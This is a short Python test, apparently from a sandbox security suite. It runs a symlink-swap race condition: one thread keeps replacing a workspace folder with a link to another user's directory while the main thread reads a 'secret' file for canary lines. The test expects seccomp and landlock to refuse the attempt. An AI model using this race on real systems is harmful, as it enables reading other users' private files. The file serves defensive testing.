"""Swaps a folder of its workspace for a link to another user's, while a second thread reads through
it and while the daemon counts what is in there."""

import os
import threading
import time

from _attack import attack


@attack(refused=("EACCES", "EPERM"), layers=("seccomp", "landlock"), workspace=True)
def run(target):
    os.chdir(target["workspace"])
    os.mkdir("folder")
    open("folder/secret", "w").close()
    refusals = []

    def swap():
        for _ in range(200):
            os.rename("folder", "away")
            try:
                os.symlink(target["other"], "folder")
                time.sleep(0.002)
                os.unlink("folder")
            except OSError as error:
                refusals.append(error)
            os.rename("away", "folder")
            time.sleep(0.001)

    swapper = threading.Thread(target=swap)
    swapper.start()
    stolen = []
    while swapper.is_alive():
        try:
            stolen += [line for line in open("folder/secret") if line.startswith("canary")]
        except OSError:
            continue
    if stolen:
        return stolen[0]
    raise refusals[0]
